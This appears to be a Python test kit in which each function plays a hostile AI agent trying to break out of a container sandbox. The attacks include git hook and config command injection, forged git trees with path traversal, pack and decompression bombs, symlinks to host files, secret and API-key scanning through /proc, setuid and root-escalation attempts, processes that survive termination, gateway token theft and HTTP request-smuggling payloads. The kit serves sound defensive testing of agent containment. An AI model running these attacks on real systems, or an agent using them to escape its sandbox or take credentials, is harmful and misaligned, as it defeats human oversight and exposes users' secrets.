"""What hostile agents do, one function for each attack: `python3 kit.py NAME`, inside a container.

The attackers know everything but the secrets themselves: `world.json` beside this file tells them where on the host the
victims lie, and under which names. What comes of an attack goes to `found/NAME.txt`, which comes home as the task's work.
A payload is a shell line that leaves a witness on the host, in a folder that no container has.
"""

import glob, hashlib, json, os, re, shutil, socket, struct, subprocess, sys, time, zlib

HERE = os.path.dirname(os.path.abspath(__file__))
W = json.load(open(os.path.join(HERE, "world.json")))
NAME = sys.argv[1]
GIT = "/workspace/.git"


def payload(name=NAME):
    return f"echo {name} >> {W['witness']}"


def script(path, name=NAME):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(f"#!/bin/sh\n{payload(name)}\ncat\n")
    os.chmod(path, 0o755)
    return path


def git(*args, check=True, stdin=None):
    done = subprocess.run(["git", *args], cwd="/workspace", capture_output=True, input=stdin)
    if check and done.returncode:
        raise SystemExit(f"git {args}: {done.stderr.decode(errors='replace')}")
    return done.stdout.decode(errors="replace").strip()


def write(path, text, mode="w"):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    with open(path, mode) as file:
        file.write(text)


def found(text, name=NAME):
    write(f"/workspace/found/{name}.txt", str(text).rstrip("\n") + "\n")


def work():
    """Something that is honest work, so that the task has an end of its own."""
    write(f"/workspace/work/{NAME}.txt", f"work of {NAME}\n")


def commit():
    git("add", "-A")
    git("commit", "-q", "--no-verify", "-m", f"by {NAME}")


# Objects as no git would make them.

def raw(kind, data):
    whole = f"{kind} {len(data)}\0".encode() + data
    name = hashlib.sha1(whole).hexdigest()
    path = f"{GIT}/objects/{name[:2]}/{name[2:]}"
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if not os.path.exists(path):
        with open(path, "wb") as file:
            file.write(zlib.compress(whole, 1))
    return name


def entry(mode, name, id):
    return f"{mode} ".encode() + (name if isinstance(name, bytes) else name.encode()) + b"\0" + bytes.fromhex(id)


def commit_of(tree):
    head = git("rev-parse", "HEAD")
    who = "An Agent <agent@example.com> 1700000000 +0000"
    return raw("commit", f"tree {tree}\nparent {head}\nauthor {who}\ncommitter {who}\n\nby {NAME}\n".encode())


def forge(*entries):
    """A commit on the task's own branch with that tree, behind git's back."""
    tree = raw("tree", b"".join(entries))
    branch = git("symbolic-ref", "HEAD")
    write(f"{GIT}/{branch}", commit_of(tree) + "\n")


def evil():
    return raw("blob", f"evil {NAME}\n".encode())


# Git's own files.

HOOKS = ("pre-commit post-commit post-checkout reference-transaction post-index-change pre-push update pre-receive "
         "post-receive post-update post-merge post-rewrite pre-auto-gc commit-msg prepare-commit-msg").split()


def hooks():
    work()
    for hook in HOOKS:
        script(f"{GIT}/hooks/{hook}")
    git("config", "core.hooksPath", ".git/hooks")


def fsmonitor():
    work()
    git("config", "core.fsmonitor", payload() + "; true")
    git("config", "core.untrackedCache", "true")


def filters():
    work()
    # Committed: the attribute comes home, the program's name does not.
    write("/workspace/.gitattributes", "trapped.txt filter=trap diff=trap merge=trap\n")
    write("/workspace/trapped.txt", "trapped\n")
    for key in ("filter.trap.clean", "filter.trap.smudge", "diff.trap.textconv", "diff.trap.command", "merge.trap.driver",
                "diff.external", "core.pager", "core.editor", "gpg.program", "uploadpack.packObjectsHook"):
        git("config", key, payload() + "; cat")
    write(f"{GIT}/info/attributes", "* filter=trap diff=trap merge=trap\n")


def include():
    work()
    write("/workspace/included", f'[core]\n\tfsmonitor = "{payload()}; true"\n\thooksPath = /workspace/hooks\n')
    git("config", "include.path", "/workspace/included")
    git("config", "--add", "include.path", "../included")


def gitfile():
    work()
    shutil.rmtree(GIT)
    write(GIT, f"gitdir: {W['user']}/.git\n")


def gitlink():
    work()
    shutil.rmtree(GIT)
    os.symlink(f"{W['user']}/.git", GIT)


def gitother():
    work()
    shutil.rmtree(GIT)
    write(GIT, f"gitdir: {W['other']}/.git\n")


def commondir():
    work()
    write(f"{GIT}/commondir", f"{W['other']}/.git\n")


def branch_file():
    return f"{GIT}/{git('symbolic-ref', 'HEAD')}"


def alternates():
    """The other repository's commit, by its name, as the task's own work."""
    work()
    at = branch_file()
    write(f"{GIT}/objects/info/alternates", f"/gadugi/store.git/objects\n{W['other']}/.git/objects\n")
    found("there" if not subprocess.run(["git", "cat-file", "-e", W["other_commit"]], cwd="/workspace").returncode else "absent")
    write(at, W["other_commit"] + "\n")


def alternates_user():
    """The user's own secret branch and stash, by their names."""
    work()
    write(f"{GIT}/objects/info/alternates", f"/gadugi/store.git/objects\n{W['user']}/.git/objects\n")
    for number, id in enumerate(W["secret_commits"]):
        write(f"{GIT}/refs/heads/secret-{number}", id + "\n")
    write(f"{GIT}/refs/stash", W["secret_commits"][-1] + "\n")


def merge_of_secret():
    """A commit that names the user's secret commit as its parent: the host has that one, the store has not."""
    work()
    commit()
    at = branch_file()
    tree, head = git("rev-parse", "HEAD^{tree}"), git("rev-parse", "HEAD")
    who = "An Agent <agent@example.com> 1700000000 +0000"
    text = f"tree {tree}\nparent {head}\nparent {W['secret_commits'][0]}\nauthor {who}\ncommitter {who}\n\nmerge\n"
    write(at, raw("commit", text.encode()) + "\n")


def tree_of_secret():
    """A tree that names the blob of the user's secret: where the host looked for it in the user's objects, it would be work."""
    base = [line.split(None, 3) for line in git("ls-tree", "HEAD").splitlines()]
    entries = [(name, entry(mode.lstrip("0"), name, id)) for mode, _, id, name in base]
    entries.append(("zz-secret.txt", entry("100644", "zz-secret.txt", W["secret_blob"])))
    forge(*[raw_entry for _, raw_entry in sorted(entries)])
    git("update-index", "--refresh", "-q", check=False)


def refs():
    work()
    commit()
    head = git("rev-parse", "HEAD")
    for name in W["refs"]:
        git("update-ref", name, head)
    git("tag", "-m", "x", "v9.9.9")
    git("symbolic-ref", "refs/heads/symbolic", "refs/heads/main")
    git("config", "remote.origin.url", f"{W['user']}")
    git("config", "remote.origin.push", "+refs/*:refs/*")


def replace():
    work()
    commit()
    head, base = git("rev-parse", "HEAD"), git("rev-parse", "HEAD^")
    git("replace", base, head)
    write(f"{GIT}/info/grafts", f"{head}\n")
    write(f"{GIT}/shallow", f"{head}\n")


# Work that is not taken.

def fsck():
    forge(entry("40000", ".git", raw("tree", entry("100644", "config", evil()))))


def fsck_twice():
    blob = evil()
    forge(entry("100644", "same", blob), entry("100644", "same", blob))


def dotdot():
    inner = raw("tree", entry("100644", "escaped.txt", evil()))
    forge(entry("40000", "..", raw("tree", entry("40000", "..", inner))))


def slash():
    forge(entry("100644", "../escaped.txt", evil()))


def case():
    forge(entry("40000", ".GIT", raw("tree", entry("40000", "hooks", raw("tree", entry("100755", "post-checkout", evil()))))))


def hfs():
    forge(entry("40000", ".g\u200cit", raw("tree", entry("100644", "config", evil()))))


def ntfs():
    forge(entry("40000", "git~1", raw("tree", entry("100644", "config", evil()))))


def modules():
    text = '[submodule "x"]\n\tpath = x\n\turl = -u./evil\n'.encode()
    forge(entry("100644", ".gitmodules", raw("blob", text)), entry("100644", "evil", evil()))


def modules_link():
    forge(entry("120000", ".gitmodules", raw("blob", b"/etc/passwd")), entry("100644", "evil", evil()))


def five_gigabytes():
    with open("/workspace/big.bin", "wb") as file:
        file.truncate(5 << 30)


def pack(sizes):
    """A pack whose objects are deltas that claim to make so many bytes, under names that are none of theirs. Git copies it as
    it is. A delta copies its base of 64 KiB again and again: one byte for each time."""
    def head(kind, size):
        first, size = (kind << 4) | (size & 15), size >> 4
        out = bytearray()
        while size:
            out.append(first | 0x80)
            first, size = size & 0x7f, size >> 7
        return bytes(out) + bytes([first])

    def number(size):
        out = bytearray()
        while size > 0x7f:
            out.append(0x80 | (size & 0x7f))
            size >>= 7
        return bytes(out) + bytes([size])

    base = b"\0" * 65536
    base_id = hashlib.sha1(b"blob 65536\0" + base).digest()
    objects = [(base_id, head(3, len(base)) + zlib.compress(base))]
    for index, size in enumerate(sizes):
        delta = number(65536) + number(size // 65536 * 65536) + b"\x80" * (size // 65536)
        name = hashlib.sha1(f"{NAME} {index}".encode()).digest()
        objects.append((name, head(7, len(delta)) + base_id + zlib.compress(delta, 9)))
    body, places = bytearray(struct.pack(">4sII", b"PACK", 2, len(objects))), {}
    for name, data in objects:
        places[name] = (len(body), zlib.crc32(data))
        body += data
    trailer = hashlib.sha1(body).digest()
    body += trailer
    names = sorted(places)
    index = bytearray(b"\xfftOc" + struct.pack(">I", 2))
    for byte in range(256):
        index += struct.pack(">I", sum(name[0] <= byte for name in names))
    index += b"".join(names)
    index += b"".join(struct.pack(">I", places[name][1]) for name in names)
    index += b"".join(struct.pack(">I", places[name][0]) for name in names)
    index += trailer
    index += hashlib.sha1(index).digest()
    at = f"{GIT}/objects/pack/pack-{trailer.hex()}"
    write(at + ".pack", bytes(body), "wb")
    write(at + ".idx", bytes(index), "wb")
    found(len(body))
    return [name.hex() for name, _ in objects]


def bomb():
    names = pack([900 << 20] * 12)
    forge(entry("100644", "aa-evil", evil()), *[entry("100644", f"b{at:02}", name) for at, name in enumerate(names)])


def everywhere():
    """A file of a hundred megabytes under ten thousand names: a pack of some kilobytes, a terabyte in a folder."""
    blob = raw("blob", b"\0" * (100 << 20))
    files = raw("tree", b"".join(entry("100644", f"{at:03}", blob) for at in range(100)))
    forge(entry("100644", "aa-evil", evil()), *[entry("40000", f"d{at:03}", files) for at in range(100)])
    # What lies nowhere counts as it is told to.
    git("read-tree", "HEAD")
    git("update-index", "-z", "--skip-worktree", "--stdin", stdin=git("ls-files", "-z").encode())


def five_gigabytes_in_one():
    names = pack([5 << 30])
    forge(entry("100644", "aa-evil", evil()), *[entry("100644", f"b{at}", name) for at, name in enumerate(names)])


# Links over paths of the host.

def link_over():
    """In place of a folder of the repository: a link to one of the host's, in which a file of the same name lies."""
    shutil.rmtree("/workspace/config")
    os.symlink(W["victim"], "/workspace/config")
    os.symlink(f"{W['victim']}/app.txt", "/workspace/leak.txt")
    os.symlink("../../../../../../../../etc/passwd", "/workspace/passwd.txt")


def link_changed():
    write("/workspace/config/app.txt", "changed by a neighbour\n")


def link_through():
    """Behind a link that was taken home: a folder of its name, with a file in it."""
    assert os.path.islink("/workspace/later")
    os.unlink("/workspace/later")
    write("/workspace/later/app.txt", "written through\n")


def link_first():
    os.symlink(W["victim"], "/workspace/later")


# What can be reached.

def walk(tops):
    for top in tops:
        for folder, folders, files in os.walk(top):
            for file in files:
                path = os.path.join(folder, file)
                try:
                    if os.path.isfile(path) and not os.path.islink(path):
                        yield path
                except OSError:
                    pass


def contents(path, most=64 << 20):
    try:
        with open(path, "rb") as file:
            return file.read(most)
    except OSError:
        return b""


def secrets():
    """Looks for the user's secret texts (told backwards) in all that can be read, compressed objects too, and asks for the
    commits by name."""
    needles = [needle[::-1].encode() for needle in W["secret_texts"]]
    hits = []
    for path in walk(["/workspace", "/gadugi", "/tmp", "/home", "/root", "/var", "/run", "/mnt", "/srv", "/opt/gadugi"]):
        data = contents(path)
        if any(needle in data for needle in needles):
            hits.append(path)
    for place in (["-C", "/workspace"], ["--git-dir=/gadugi/store.git", "-c", "safe.directory=*"]):
        for id in W["secret_commits"] + [W["secret_blob"], W["other_commit"]]:
            if subprocess.run(["git", *place, "cat-file", "-e", id], capture_output=True).returncode == 0:
                hits.append(f"{place} {id}")
        all = subprocess.run(["git", *place, "cat-file", "--batch-all-objects", "--batch"], capture_output=True).stdout
        if b"The task" not in all:
            hits.append(f"{place}: it holds nothing that could be looked through")
        if any(needle in all for needle in needles):
            hits.append(f"objects of {place}")
        names = subprocess.run(["git", *place, "for-each-ref", "--format=%(refname)"], capture_output=True, text=True).stdout
        hits += [line for line in names.splitlines() if line in ("refs/heads/secret", "refs/tags/secret-tag", "refs/stash")]
    found("\n".join(hits) or "none")


def network():
    hits = []
    for host, port in W["listeners"] + [["169.254.169.254", 80], ["172.17.0.1", 22], ["1.1.1.1", 53], ["fd00:ec2::254", 80]]:
        try:
            socket.create_connection((host, port), timeout=2).close()
            hits.append(f"{host}:{port}")
        except OSError:
            pass
    for name in ("example.com", "metadata.google.internal", "host.docker.internal"):
        try:
            hits.append(f"{name} is {socket.gethostbyname(name)}")
        except OSError:
            pass
    for path in ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", W["docker"]]:
        try:
            with socket.socket(socket.AF_UNIX) as it:
                it.connect(path)
            hits.append(path)
        except OSError:
            pass
    sockets = subprocess.run("find / -xdev -type s 2>/dev/null; find /workspace /gadugi /tmp -type s 2>/dev/null", shell=True,
                             capture_output=True, text=True).stdout.split()
    hits += sockets
    interfaces = sorted(os.listdir("/sys/class/net"))
    hits += [name for name in interfaces if name != "lo"]
    # Of the host's own abstract sockets none is here.
    hits += [line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:] if "@" in line]
    for family, kind, protocol in ((socket.AF_PACKET, socket.SOCK_RAW, 3), (socket.AF_INET, socket.SOCK_RAW, 1)):
        try:
            socket.socket(family, kind, protocol).close()
            hits.append(f"a raw socket {family}")
        except OSError:
            pass
    found("\n".join(hits) or "none")


def parent_of(pid):
    """The parent of a process."""
    status = open(f"/proc/{pid}/status").read()
    return int(re.search(r"^PPid:\s+(\d+)", status, re.M).group(1))


def shim():
    """The shim's files, by every way that its uid has, and everything that it could be told by signals."""
    calls = {"x86_64": "101 310 311 434 438 302 304", "aarch64": "117 270 271 434 438 261 265"}[os.uname().machine].split()
    # The agent's own input, which the shim gave it.
    agent = os.getppid()
    while parent_of(agent) != 1:
        agent = parent_of(agent)
    with open(f"/proc/{agent}/fd/0") as given:
        said = subprocess.run(["perl", f"{HERE}/reach.pl", *calls], capture_output=True, text=True, stdin=given)
    lines = said.stdout.splitlines()
    hits = [line for line in lines if not line.endswith(": refused") and line not in ("over", "threads of PID 1: 1")]
    if lines[-1:] != ["over"]:
        hits.append(said.stderr)
    for number in (1, 2, 3, 15, 9, 19, 10, 12):
        try:
            os.kill(1, number)
        except OSError:
            pass
    for name in ("exit.json", "stop", "lease", "spec.json", "witness.json", "container.json", "started.json"):
        for place in ("/workspace", "/tmp", "/gadugi/home", "."):
            write(f"{place}/{name}", '{"exit":{"code":0},"stopped":false}\n')
        try:
            write(f"/gadugi/gate/{name}", "{}")
            hits.append(f"wrote {name} in the gate")
        except OSError:
            pass
    for name in ("exit.json", "stop", "lease", "spec.json", "witness.json", "container.json", "started.json"):
        os.unlink(f"/workspace/{name}")
    found(f"{len(lines)} tries\n" + "\n".join(hits))


def root():
    """More rights than a step has."""
    hits = []
    status = open("/proc/self/status").read()
    hits += [line for line in status.splitlines() if line.startswith("Cap") and line.split()[1].strip("0")]
    if "NoNewPrivs:\t1" not in status:
        hits.append("new privileges can be had")
    if os.getuid() == 0:
        hits.append("root")
    for path in ("/etc/witness", "/usr/bin/witness", "/gadugi/witness", "/gadugi/store.git/witness", "/gadugi/gate/witness",
                 "/proc/sys/kernel/core_pattern", "/sys/fs/cgroup/witness", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper"):
        try:
            write(path, "x")
            hits.append(f"wrote {path}")
        except OSError:
            pass
    for command in ("mount -t tmpfs x /mnt", "unshare -U true", "unshare -m true", "chroot / true", "mknod /tmp/sda b 8 0",
                    "su -c true", "dmesg", "hostname other", "nsenter -t 1 -m true", "chown 0 /workspace/README.md"):
        done = subprocess.run(command, shell=True, capture_output=True, stdin=subprocess.DEVNULL)
        if done.returncode == 0:
            hits.append(command)
    # A program of root's that the workspace would carry: the bit stays with a user that has nothing.
    shutil.copy("/bin/sh", "/tmp/sh")
    os.chmod("/tmp/sh", 0o6755)
    found("\n".join(hits) or "none")


def stubborn():
    """Ignores TERM, forks twice, changes its session, and lets go of everything that it was given."""
    for number in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.chdir("/")
                for fd in range(3):
                    os.close(fd)
                os.execve("/bin/sh", [W["mark"], "-c", "trap '' TERM HUP INT; while :; do sleep 1000; done", W["mark"]], {})
            os._exit(0)
    write("/tmp/ready", "x")
    subprocess.run(["sh", "-c", "trap '' TERM; while :; do sleep 1000; done", W["mark"]])


def fill():
    """Fills the disk at a pace that leaves time to be seen."""
    where = sys.argv[2]
    with open(f"{where}/filler", "wb") as file:
        if "nameless" in sys.argv:
            os.unlink(f"{where}/filler")
        for _ in range(400):
            file.write(b"x" * (3 << 20))
            file.flush()
            time.sleep(0.1)


# The gateway, as an agent meets it.

def gate():
    port = int(re.search(r":(\d+)", os.environ["ANTHROPIC_BASE_URL"]).group(1))
    return port, os.environ["ANTHROPIC_API_KEY"]


def ask(data, wait=5):
    """Bytes to the gateway; what comes back until it is silent."""
    out = b""
    with socket.create_connection(("127.0.0.1", gate()[0]), timeout=wait) as it:
        try:
            it.sendall(data)
            while True:
                part = it.recv(65536)
                if not part:
                    break
                out += part
        except OSError:
            pass
    return out


def status_of(path, token, method="GET", more=""):
    head = f"{method} {path} HTTP/1.1\r\nhost: gateway\r\nx-api-key: {token}\r\nconnection: close\r\n{more}\r\n"
    said = ask(head.encode("latin-1"))
    return said.split(b" ")[1].decode() if said.startswith(b"HTTP/1.1 ") else "none"


def await_file(path):
    end = time.time() + 90
    while not os.path.exists(path):
        if time.time() > end:
            raise SystemExit(f"{path} never came")
        time.sleep(0.05)
    return open(path).read()


def giver():
    """Lends its token to whoever carries it out."""
    write("/tmp/token.draft", gate()[1])
    os.rename("/tmp/token.draft", "/tmp/token")
    await_file("/tmp/go")
    work()


def thief():
    """Uses a token that is another attempt's: while that one lives, and when it is over."""
    tried = [status_of("/v1/models/x", gate()[1])]
    stolen = await_file("/tmp/stolen")
    tried.append(status_of("/v1/models/x", stolen))
    tried.append(status_of("/v1/models/x", gate()[1] + stolen))
    tried.append(status_of("/v1/models/x", ""))
    write("/tmp/used", "x")
    await_file("/tmp/over")
    tried.append(status_of("/v1/models/x", stolen))
    tried.append(status_of("/v1/models/x", gate()[1]))
    found("\n".join(tried))


def key():
    """The credential, which the gateway holds: in every environment, process, file and answer."""
    needle = W["key"][::-1].encode()
    hits = []
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + ["/proc/self/mountinfo", "/proc/mounts"]:
        if needle in contents(path):
            hits.append(path)
    for path in walk(["/workspace", "/gadugi", "/tmp", "/home", "/root", "/run", "/etc", "/var", "/dev/shm"]):
        if needle in contents(path):
            hits.append(path)
    port, token = gate()
    base = f"host: 127.0.0.1:{port}\r\nx-api-key: {token}\r\nconnection: close\r\n"
    asked = 0
    for line in ("GET / HTTP/1.1", "TRACE / HTTP/1.1", "OPTIONS * HTTP/1.1", "GET /metrics HTTP/1.1", "GET /debug HTTP/1.1",
                 "GET /v1/models HTTP/1.1", "GET /v1/organizations/api_keys HTTP/1.1", "GET /v1/models/../../secret HTTP/1.1",
                 "GET /v1/models/%2e%2e HTTP/1.1", "POST /v1/messages/../files HTTP/1.1", "GET //v1/models HTTP/1.1",
                 "CONNECT 127.0.0.1:1 HTTP/1.1", "GET http://127.0.0.1:1/ HTTP/1.1", "GET file:///etc/passwd HTTP/1.1",
                 "POST /v1/messages/batches HTTP/1.1", "POST /v1/files HTTP/1.1"):
        asked += 1
        if needle in ask(f"{line}\r\n{base}content-length: 0\r\n\r\n".encode()):
            hits.append(line)
    found("\n".join([f"asked {asked}"] + hits))


def smuggle():
    """Requests of which two readers could make two things; whatever arrives upstream is counted there."""
    port, token = gate()
    body = json.dumps({"model": "claude-x", "max_tokens": 1, "messages": [{"role": "user", "content": "hello"}]})
    hidden = f"POST /v1/messages/batches HTTP/1.1\r\nhost: x\r\nx-api-key: smuggled\r\ncontent-length: 0\r\n\r\n"
    head = f"host: 127.0.0.1:{port}\r\nx-api-key: {token}\r\ncontent-type: application/json\r\n"
    chunked = f"{len(body):x}\r\n{body}\r\n0\r\n\r\n"
    post = "POST /v1/messages HTTP/1.1\r\n" + head
    tries = [
        f"{post}content-length: {len(body)}\r\ntransfer-encoding: chunked\r\n\r\n{chunked}{hidden}",
        f"{post}transfer-encoding: chunked\r\ntransfer-encoding: identity\r\n\r\n{chunked}{hidden}",
        f"{post}transfer-encoding: xchunked\r\n\r\n{chunked}{hidden}",
        f"{post}content-length: 0\r\ncontent-length: {len(body)}\r\n\r\n{body}{hidden}",
        f"{post}content-length: +{len(body)}\r\n\r\n{body}{hidden}",
        f"{post} content-length: {len(body)}\r\n\r\n{body}{hidden}",
        f"{post}x-a: b\r\n\tfolded: c\r\ncontent-length: {len(body)}\r\n\r\n{body}",
        f"{post}x-a: b\nx-api-key: injected\r\ncontent-length: {len(body)}\r\n\r\n{body}",
        f"{post}connection: x-api-key, authorization\r\ncontent-length: {len(body)}\r\n\r\n{body}",
        f"GET /v1/models?x=1%0d%0ax-api-key:asked HTTP/1.1\r\n{head}\r\n",
        f"GET /v1/models HTTP/1.1\r\n{head}authorization: Bearer injected\r\nproxy-authorization: Basic injected\r\ncookie: a=injected\r\n\r\n",
        f"GET /v1/models HTTP/1.1\r\n{head}upgrade: h2c\r\nconnection: upgrade\r\n\r\n",
        f"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        f"GET /v1/models HTTP/1.1\r\n{head}" + "".join(f"x-{at}: {'a' * 900}\r\n" for at in range(400)) + "\r\n",
        f"GET /v1/models/{'a' * 200000} HTTP/1.1\r\n{head}\r\n",
        "\0" * 4096,
    ]
    for data in tries:
        ask(data.encode("latin-1"), wait=3)
    found(len(tries))


def slow():
    """Holds as many connections as it is given, and says nothing on them, until a sign comes."""
    held = []
    for _ in range(400):
        it = socket.socket()
        it.settimeout(2)
        try:
            it.connect(("127.0.0.1", gate()[0]))
            it.sendall(b"POST /v1/messages HTTP/1.1\r\nhost: x\r\n")
            held.append(it)
        except OSError:
            break
    write("/tmp/holding", str(len(held)))
    await_file("/tmp/go")
    for it in held:
        it.close()
    work()


# Odd things in a workspace.

def fifo():
    work()
    write("/workspace/sub/kept.txt", "kept\n")
    for path in (".gitignore", "sub/.gitignore", ".gitattributes", "sub/.gitattributes", ".gitmodules", ".mailmap", "pipe",
                 ".git/info/exclude", ".git/info/attributes", ".git/packed-refs", ".git/shallow"):
        path = f"/workspace/{path}"
        if os.path.lexists(path):
            os.unlink(path)
        os.mkfifo(path)
    with socket.socket(socket.AF_UNIX) as it:
        it.bind("/workspace/socket")


def names():
    work()
    for name in (b"new\nline.txt", b"\xff\xfe.txt", b"-rf", b"--help", b"*", b":(top)x", b"a\tb", b"quote\"'$(id)`id`.txt",
                 b"CON", b"nul.txt", b" ", b"\\", b"..a", b"x..", "\u202egnp.exe".encode(), b"\x1b]0;PWNED\x07.txt"):
        with open(b"/workspace/" + name, "wb") as file:
            file.write(b"odd\n")


def deep():
    work()
    folder = os.open("/workspace", os.O_RDONLY)
    for _ in range(4000):
        os.mkdir("d", dir_fd=folder)
        inner = os.open("d", os.O_RDONLY, dir_fd=folder)
        os.close(folder)
        folder = inner
    os.close(os.open("bottom", os.O_CREAT | os.O_WRONLY, dir_fd=folder))


def many_refs():
    work()
    commit()
    head = git("rev-parse", "HEAD")
    write(f"{GIT}/packed-refs", "".join(f"{head} refs/heads/many/{at:06}\n" for at in range(100_000)))


def modes():
    """Folders that nobody may enter, files of several names, bits that mean something to others."""
    work()
    os.chmod(f"/workspace/work/{NAME}.txt", 0o6755)
    os.link(f"/workspace/work/{NAME}.txt", "/workspace/second.txt")
    try:
        os.link("/gadugi/shim", "/workspace/shim")
        found("linked")
    except OSError:
        found("none")


def room():
    """A repository whose name is what a full disk says."""
    folder = "/workspace/No space left on device"
    os.makedirs(folder)
    subprocess.run("git init -q . && git -c user.name=a -c user.email=b commit -q --allow-empty -m x", cwd=folder, shell=True, check=True)


if __name__ == "__main__":
    globals()[NAME.replace("-", "_")]()
